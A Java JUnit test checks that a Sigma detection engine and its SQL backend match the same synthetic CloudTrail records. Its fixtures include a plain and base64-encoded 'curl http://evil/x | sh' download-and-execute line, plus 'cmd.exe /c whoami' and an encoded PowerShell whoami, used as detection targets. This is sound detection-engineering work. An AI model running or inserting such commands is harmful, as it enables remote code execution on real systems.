package io.trailkeeper.detect.sql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.trailkeeper.detect.InMemoryEngine;
import io.trailkeeper.detect.RuleLoader;
import io.trailkeeper.detect.RuleSet;
import io.trailkeeper.detect.SigmaRule;
import io.trailkeeper.events.CloudTrailEvent;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The Sigma specification's value forms and conditions over CloudTrail-shaped records (nested paths, arrays of
 * objects, numbers, booleans, JSON null, empty strings, multi-line text, base64): the in-memory engine matches
 * exactly the events the specification says, and the SQL backend the same ones (IPv6 |cidr and regular expressions
 * RE2 cannot take, which the SQL backend refuses by design, are checked in the engine only).
 */
class SqlSpecFormsDifferentialTest {
    private static final String[] RECORDS = {
        "{\"eventVersion\": \"1.10\", \"awsRegion\": \"us-east-1\", \"eventType\": \"AwsApiCall\", \"recipientAccountId\": \"012345678901\", \"eventTime\": \"2026-11-20T10:00:01Z\", \"eventID\": \"e1\", \"eventSource\": \"signin.amazonaws.com\", \"eventName\": \"ConsoleLogin\", \"sourceIPAddress\": \"10.1.2.3\", \"userIdentity\": {\"type\": \"IAMUser\", \"userName\": \"Alice\", \"arn\": \"arn:aws:iam::012345678901:user/Alice\"}, \"additionalEventData\": {\"MFAUsed\": \"No\"}, \"responseElements\": {\"ConsoleLogin\": \"Success\"}}",
        "{\"eventVersion\": \"1.08\", \"awsRegion\": \"us-east-1\", \"eventType\": \"AwsApiCall\", \"recipientAccountId\": \"012345678901\", \"eventTime\": \"2026-11-20T10:00:02Z\", \"eventID\": \"e2\", \"eventSource\": \"s3.amazonaws.com\", \"eventName\": \"PutBucketPolicy\", \"sourceIPAddress\": \"2600:1f18:abcd::1\", \"userIdentity\": {\"type\": \"AssumedRole\", \"arn\": \"arn:aws:sts::012345678901:assumed-role/Ops/x\"}, \"requestParameters\": {\"bucketName\": \"Trail-Logs\", \"x-amz-acl\": [\"private\", \"public-read\"]}, \"resources\": [{\"ARN\": \"arn:aws:s3:::trail-logs\", \"type\": \"AWS::S3::Bucket\"}, {\"ARN\": \"arn:aws:s3:::other\"}], \"readOnly\": false, \"managementEvent\": true}",
        "{\"eventVersion\": \"1.08\", \"awsRegion\": \"us-east-1\", \"eventType\": \"AwsApiCall\", \"recipientAccountId\": \"012345678901\", \"eventTime\": \"2026-11-20T10:00:03Z\", \"eventID\": \"e3\", \"eventSource\": \"ec2.amazonaws.com\", \"eventName\": \"RunInstances\", \"sourceIPAddress\": \"198.51.100.7\", \"userIdentity\": {\"type\": \"AssumedRole\", \"sessionContext\": {\"sessionIssuer\": {\"type\": \"Role\", \"userName\": \"AdminRole\"}}}, \"requestParameters\": {\"instancesSet\": {\"items\": [{\"imageId\": \"ami-1\", \"minCount\": 1, \"maxCount\": 5}]}, \"userData\": \"IyEvYmluL2Jhc2gKeHggY3VybCBodHRwOi8vZXZpbC94IHwgc2g=\"}, \"errorCode\": null, \"apiVersion\": \"\"}",
        "{\"eventVersion\": \"1.08\", \"awsRegion\": \"us-east-1\", \"eventType\": \"AwsApiCall\", \"recipientAccountId\": \"012345678901\", \"eventTime\": \"2026-11-20T10:00:04Z\", \"eventID\": \"e4\", \"eventSource\": \"ssm.amazonaws.com\", \"eventName\": \"SendCommand\", \"sourceIPAddress\": \"10.9.9.9\", \"userAgent\": \"aws-cli/2.0 -a /b\", \"requestParameters\": {\"commandLine\": \"cmd.exe /c whoami -v\", \"script\": \"line1\\nline2\"}}",
        "{\"eventVersion\": \"1.08\", \"awsRegion\": \"us-east-1\", \"eventType\": \"AwsApiCall\", \"recipientAccountId\": \"012345678901\", \"eventTime\": \"2026-11-20T10:00:05Z\", \"eventID\": \"e5\", \"eventSource\": \"iam.amazonaws.com\", \"eventName\": \"CreateUser\", \"sourceIPAddress\": \"10.9.9.9\", \"userIdentity\": {\"type\": \"IAMUser\", \"userName\": \"dom\\\\user\"}, \"requestParameters\": {\"userName\": \"evil*user\", \"durationSeconds\": 43200}}",
        "{\"eventVersion\": \"1.08\", \"awsRegion\": \"us-east-1\", \"eventType\": \"AwsApiCall\", \"recipientAccountId\": \"012345678901\", \"eventTime\": \"2026-11-20T10:00:06Z\", \"eventID\": \"e6\", \"eventSource\": \"sts.amazonaws.com\", \"eventName\": \"GetSessionToken\", \"sourceIPAddress\": \"10.9.9.9\", \"userIdentity\": {\"type\": \"IAMUser\", \"userName\": \"bob\"}, \"requestParameters\": {\"userName\": \"BOB\", \"durationSeconds\": \"3600\"}}",
        "{\"eventVersion\": \"1.11\", \"awsRegion\": \"us-east-1\", \"eventType\": \"AwsApiCall\", \"recipientAccountId\": \"012345670123\", \"eventTime\": \"2026-11-20T10:00:07Z\", \"eventID\": \"e7\", \"eventSource\": \"kms.amazonaws.com\", \"eventName\": \"Decrypt\", \"sourceIPAddress\": \"10.9.9.9\", \"requestParameters\": {\"v1\": \"1e3\", \"v2\": \"0x1F\", \"v3\": \"+1\", \"v4\": \"1_000\", \"v5\": \"07\", \"v6\": 0.5}}",
        "{\"eventVersion\": \"1.11\", \"awsRegion\": \"us-east-1\", \"eventTime\": \"2026-11-20T10:00:08Z\", \"eventID\": \"e8\", \"eventSource\": \"ecs.amazonaws.com\", \"eventName\": \"TagResource\", \"requestParameters\": {\"tags\": [[\"x\", \"y\"], [\"z\"]], \"flag\": \"TRUE\", \"enc\": \"cABvAHcAZQByAHMAaABlAGwAbAAgAC0AYwAgAHcAaABvAGEAbQBpAA==\", \"b64path\": \"Y29weSBDOlxUZW1wXHguZXhlIG5vdw==\", \"n\": 5.0}}",
        "{\"eventVersion\": \"1.11\", \"awsRegion\": \"us-east-1\", \"eventTime\": \"2026-11-20T10:00:09Z\", \"eventID\": \"e9\", \"eventSource\": \"ec2.amazonaws.com\", \"eventName\": \"DescribeThings\", \"requestParameters\": {\"hex\": \"0x10\", \"under\": \"1_000\", \"spaced\": \" 5 \", \"plus\": \"+5\", \"dot\": \"5.\", \"inf\": \"Infinity\", \"nan\": \"NaN\", \"huge\": \"1e400\", \"big\": 12345678901234567890123}}",
    };

    /** Name, detection (under {@code detection:}), the eventIDs it must match. */
    private static final String[][] CASES = {
        {"nested bucketName ci", "sel:\n    requestParameters.bucketName: trail-logs\n  condition: sel", "e2"},
        {"cased bucketName", "sel:\n    requestParameters.bucketName|cased: trail-logs\n  condition: sel", ""},
        {"resources ARN endswith", "sel:\n    resources.ARN|endswith: ':other'\n  condition: sel", "e2"},
        {"bool false", "sel:\n    readOnly: false\n  condition: sel", "e2"},
        {"bool true", "sel:\n    managementEvent: true\n  condition: sel", "e2"},
        {"bool as string", "sel:\n    readOnly: 'false'\n  condition: sel", "e2"},
        {"gte in array", "sel:\n    requestParameters.instancesSet.items.maxCount|gte: 5\n  condition: sel", "e3"},
        {"gt in array", "sel:\n    requestParameters.instancesSet.items.maxCount|gt: 5\n  condition: sel", ""},
        {"number eq", "sel:\n    requestParameters.instancesSet.items.minCount: 1\n  condition: sel", "e3"},
        {"number lt string", "sel:\n    requestParameters.durationSeconds|lt: 4000\n  condition: sel", "e6"},
        {"number gt num", "sel:\n    requestParameters.durationSeconds|gt: 4000\n  condition: sel", "e5"},
        {"null errorCode", "sel:\n    errorCode: null\n  condition: sel", "e1 e2 e3 e4 e5 e6 e7 e8 e9"},
        {"empty apiVersion", "sel:\n    apiVersion: ''\n  condition: sel", "e3"},
        {"exists empty", "sel:\n    apiVersion|exists: true\n  condition: sel", "e3"},
        {"exists null", "sel:\n    errorCode|exists: true\n  condition: sel", "e3"},
        {"not exists", "sel:\n    userAgent|exists: false\n  condition: sel", "e1 e2 e3 e5 e6 e7 e8 e9"},
        {"cidr v6", "sel:\n    sourceIPAddress|cidr: '2600:1f18::/32'\n  condition: sel", "e2"},
        {"cidr v4", "sel:\n    sourceIPAddress|cidr: 10.0.0.0/8\n  condition: sel", "e1 e4 e5 e6 e7"},
        {"cidr list", "sel:\n    sourceIPAddress|cidr:\n      - 10.1.0.0/16\n      - 198.51.100.0/24\n  condition: sel", "e1 e3"},
        {"base64offset", "sel:\n    requestParameters.userData|base64offset|contains: 'curl http://evil'\n  condition: sel", "e3"},
        {"base64 whole", "sel:\n    requestParameters.userData|base64: \"#!/bin/bash\\nxx curl http://evil/x | sh\"\n  condition: sel", "e3"},
        {"windash single", "sel:\n    requestParameters.commandLine|windash|contains: ' -c '\n  condition: sel", "e4"},
        {"windash mixed", "sel:\n    requestParameters.commandLine|windash|contains: '/c whoami -v'\n  condition: sel", "e4"},
        {"windash mixed2", "sel:\n    userAgent|windash|endswith: '/a -b'\n  condition: sel", "e4"},
        {"re anchored no m", "sel:\n    requestParameters.script|re: '^line2'\n  condition: sel", ""},
        {"re m", "sel:\n    requestParameters.script|re|m: '^line2'\n  condition: sel", "e4"},
        {"re no s", "sel:\n    requestParameters.script|re: 'line1.line2'\n  condition: sel", ""},
        {"re s", "sel:\n    requestParameters.script|re|s: 'line1.line2'\n  condition: sel", "e4"},
        {"re cased", "sel:\n    requestParameters.script|re: 'LINE1'\n  condition: sel", ""},
        {"re i", "sel:\n    requestParameters.script|re|i: 'LINE1'\n  condition: sel", "e4"},
        {"re partial", "sel:\n    eventName|re: 'User'\n  condition: sel", "e5"},
        {"escaped star", "sel:\n    requestParameters.userName: 'evil\\*user'\n  condition: sel", "e5"},
        {"escaped star nomatch", "sel:\n    requestParameters.userName: 'evil\\*u'\n  condition: sel", ""},
        {"wild star", "sel:\n    requestParameters.userName: 'ev*er'\n  condition: sel", "e5"},
        {"wild q", "sel:\n    requestParameters.userName: 'b?b'\n  condition: sel", "e6"},
        {"backslash dbl", "sel:\n    userIdentity.userName: 'dom\\\\user'\n  condition: sel", "e5"},
        {"backslash single", "sel:\n    userIdentity.userName: 'dom\\user'\n  condition: sel", "e5"},
        {"keyword", "keywords:\n    - AdminRole\n  condition: keywords", "e3"},
        {"keyword num", "keywords:\n    - 43200\n  condition: keywords", "e5"},
        {"keyword wild", "keywords:\n    - '*whoami*'\n  condition: keywords", "e4"},
        {"keyword all", "kw:\n    '|all':\n      - whoami\n      - line2\n  condition: kw", "e4"},
        {"precedence or-and-not", "a:\n    eventName: ConsoleLogin\n  b:\n    eventName: CreateUser\n  c:\n    userIdentity.type: IAMUser\n  condition: a or b and not c", "e1"},
        {"precedence not-and", "a:\n    userIdentity.type: IAMUser\n  b:\n    eventName: CreateUser\n  condition: not a and b", ""},
        {"parens", "a:\n    eventName: ConsoleLogin\n  b:\n    eventName: CreateUser\n  c:\n    userIdentity.type: IAMUser\n  condition: (a or b) and not c", ""},
        {"1 of", "sel_a:\n    eventName: ConsoleLogin\n  sel_b:\n    eventName: CreateUser\n  other:\n    eventName: RunInstances\n  condition: 1 of sel_*", "e1 e5"},
        {"all of them underscore", "sel_a:\n    userIdentity.type: IAMUser\n  _x:\n    eventName: Nothing\n  condition: all of them", "e1 e5 e6"},
        {"1 of them underscore", "sel_a:\n    eventName: ConsoleLogin\n  _x:\n    eventName: CreateUser\n  condition: 1 of them", "e1"},
        {"explicit underscore", "_x:\n    eventName: CreateUser\n  condition: 1 of _x*", "e5"},
        {"list of maps", "sel:\n    - eventName: ConsoleLogin\n      sourceIPAddress: 10.1.2.3\n    - eventName: CreateUser\n      sourceIPAddress: 1.1.1.1\n  condition: sel", "e1"},
        {"value list or", "sel:\n    eventName:\n      - ConsoleLogin\n      - CreateUser\n  condition: sel", "e1 e5"},
        {"contains all", "sel:\n    userAgent|contains|all:\n      - aws-cli\n      - ' /b'\n  condition: sel", "e4"},
        {"contains all miss", "sel:\n    userAgent|contains|all:\n      - aws-cli\n      - ' /z'\n  condition: sel", ""},
        {"startswith all", "sel:\n    requestParameters.x-amz-acl|startswith|all:\n      - priv\n      - public\n  condition: sel", "e2"},
        {"sessionIssuer userName", "sel:\n    userIdentity.sessionContext.sessionIssuer.userName: adminrole\n  condition: sel", "e3"},
        {"account leading zero", "sel:\n    recipientAccountId: 012345678901\n  condition: sel", "e1 e2 e3 e4 e5 e6"},
        {"eventVersion 1.10", "sel:\n    eventVersion: 1.10\n  condition: sel", "e1"},
        {"fieldref", "sel:\n    userIdentity.userName|fieldref: requestParameters.userName\n  condition: sel", "e6"},
        {"fieldref cased", "sel:\n    userIdentity.userName|fieldref|cased: requestParameters.userName\n  condition: sel", ""},
        {"null in list", "sel:\n    userAgent:\n      - null\n      - 'aws-cli*'\n  condition: sel", "e1 e2 e3 e4 e5 e6 e7 e8 e9"},
        {"null and all", "sel:\n    userAgent|contains|all:\n      - 'aws'\n      - 'cli'\n  condition: sel", "e4"},
        {"not missing field", "sel:\n    eventName: CreateUser\n  f:\n    userAgent: 'x'\n  condition: sel and not f", "e5"},
        {"contains empty", "sel:\n    apiVersion|contains: ''\n  condition: sel", "e3"},
        {"startswith wildcard inside", "sel:\n    userIdentity.arn|startswith: 'arn:aws:iam::*:user/'\n  condition: sel", "e1"},
        {"dot key", "sel:\n    eventName: CreateUser\n    requestParameters.durationSeconds: 43200\n  condition: sel", "e5"},
        {"number as string value", "sel:\n    requestParameters.durationSeconds: '43200'\n  condition: sel", "e5"},
        {"object value", "sel:\n    additionalEventData|contains: 'MFAUsed'\n  condition: sel", "e1"},
        {"octal-looking account", "sel:\n    recipientAccountId: 012345670123\n  condition: sel", "e7"},
        {"eventVersion 1.11", "sel:\n    eventVersion: 1.11\n  condition: sel", "e7 e8 e9"},
        {"1e3 is text, as PyYAML reads it", "sel:\n    requestParameters.v1: 1e3\n  condition: sel", "e7"},
        {"0x1F", "sel:\n    requestParameters.v2: 0x1F\n  condition: sel", "e7"},
        {".5 is the number 0.5, as PyYAML reads it", "sel:\n    requestParameters.v6: .5\n  condition: sel", "e7"},
        {"-.5 is text, as PyYAML reads it", "sel:\n    requestParameters.v6: -.5\n  condition: sel", ""},
        {"a quoted .5 is text", "sel:\n    requestParameters.v6: '.5'\n  condition: sel", ""},
        {"+1", "sel:\n    requestParameters.v3: +1\n  condition: sel", "e7"},
        {"07", "sel:\n    requestParameters.v5: 07\n  condition: sel", "e7"},
        {"1_000", "sel:\n    requestParameters.v4: 1_000\n  condition: sel", "e7"},
        {"re possessive", "sel:\n    userAgent|re: 'cli/2\\.0 -a++ /b'\n  condition: sel", "e4"},
        {"re java class", "sel:\n    eventName|re: '\\p{Upper}\\p{Lower}+User'\n  condition: sel", "e5"},
        {"re atomic", "sel:\n    eventName|re: '(?>Create)User'\n  condition: sel", "e5"},
        {"nested arrays", "sel:\n    requestParameters.tags: z\n  condition: sel", "e8"},
        {"nested arrays all", "sel:\n    requestParameters.tags|all: [x, z]\n  condition: sel", "e8"},
        {"bool value string field", "sel:\n    requestParameters.flag: true\n  condition: sel", "e8"},
        {"int value decimal field", "sel:\n    requestParameters.n: 5\n  condition: sel", "e8"},
        {"decimal value decimal field", "sel:\n    requestParameters.n: 5.00\n  condition: sel", "e8"},
        {"base64offset utf16le", "sel:\n    requestParameters.enc|base64offset|utf16le|contains: whoami\n  condition: sel",
            "e8"},
        {"base64 wide whole", "sel:\n    requestParameters.enc|base64|wide: 'powershell -c whoami'\n  condition: sel",
            "e8"},
        {"base64offset utf8 not utf16", "sel:\n    requestParameters.enc|base64offset|contains: whoami\n"
            + "  condition: sel", ""},
        {"base64offset escaped backslash", "sel:\n    requestParameters.b64path|base64offset|contains: 'C:\\\\Temp'\n"
            + "  condition: sel", "e8"},
        {"hex gt", "sel:\n    requestParameters.hex|gt: 3\n  condition: sel", ""},
        {"under gt", "sel:\n    requestParameters.under|gt: 3\n  condition: sel", ""},
        {"spaced gt", "sel:\n    requestParameters.spaced|gt: 3\n  condition: sel", "e9"},
        {"plus gt", "sel:\n    requestParameters.plus|gt: 3\n  condition: sel", "e9"},
        {"dot gt", "sel:\n    requestParameters.dot|gt: 3\n  condition: sel", "e9"},
        {"inf gt", "sel:\n    requestParameters.inf|gt: 3\n  condition: sel", ""},
        {"nan gt", "sel:\n    requestParameters.nan|gt: 3\n  condition: sel", ""},
        {"nan lt", "sel:\n    requestParameters.nan|lt: 3\n  condition: sel", ""},
        {"huge gt", "sel:\n    requestParameters.huge|gt: 3\n  condition: sel", "e9"},
        {"big gt", "sel:\n    requestParameters.big|gt: 12345678901234567890122\n  condition: sel", "e9"},
        {"big lt", "sel:\n    requestParameters.big|lt: 12345678901234567890124\n  condition: sel", "e9"},
    };

    @TempDir
    Path dir;

    @Test
    void theEngineMatchesWhatTheSpecificationSaysAndTheSqlBackendAgrees() throws Exception {
        Path rules = Files.createDirectories(dir.resolve("rules"));
        for (int i = 0; i < CASES.length; i++) {
            Files.writeString(rules.resolve(String.format("r%02d.yml", i)), "title: '" + CASES[i][0] + "'\n"
                    + String.format("id: 5e0c1a2b-0000-4000-8000-%012d%n", i) + "status: test\nauthor: Tester\n"
                    + "logsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  " + CASES[i][1]
                    + "\nlevel: low\n");
        }
        RuleSet set = new RuleLoader(Map.of()).load(rules);
        assertEquals(List.of(), set.problems());
        assertEquals(CASES.length, set.rules().size());

        Map<String, String> expected = new TreeMap<>();
        Map<String, TreeSet<String>> found = new TreeMap<>();
        for (String[] c : CASES) {
            expected.put(c[0], c[2]);
            found.put(c[0], new TreeSet<>());
        }
        InMemoryEngine engine = new InMemoryEngine(set.rules());
        List<CloudTrailEvent> events = SpecCases.read(RECORDS);
        assertEquals(RECORDS.length, events.size());
        for (CloudTrailEvent e : events) {
            engine.accept(e, m -> found.get(m.rule().title()).add(m.event().eventId()));
        }
        Map<String, String> actual = new TreeMap<>();
        found.forEach((rule, ids) -> actual.put(rule, String.join(" ", ids)));
        assertEquals(expected, actual);

        Path db = SpecCases.store(dir, RECORDS);
        // refused by the SQL backend by design (the engine runs them): an IPv6 network, and regular expressions RE2
        // cannot take, which would otherwise fail the whole scan
        List<String> refused = List.of("cidr v6", "re possessive", "re java class", "re atomic");
        SqlBackend.Scan scan = new SqlBackend().scan(set.rules(), "cloudtrail", null, null);
        assertEquals(refused, scan.rejected().stream().map(e -> e.rule().title()).toList());
        List<SigmaRule> inSql = set.rules().stream().filter(r -> !refused.contains(r.title())).toList();
        List<String> differences = SqlBackendDifferentialTest.differences(db, inSql);
        assertTrue(differences.isEmpty(), differences.size() + " differences:\n" + String.join("\n", differences));
    }
}
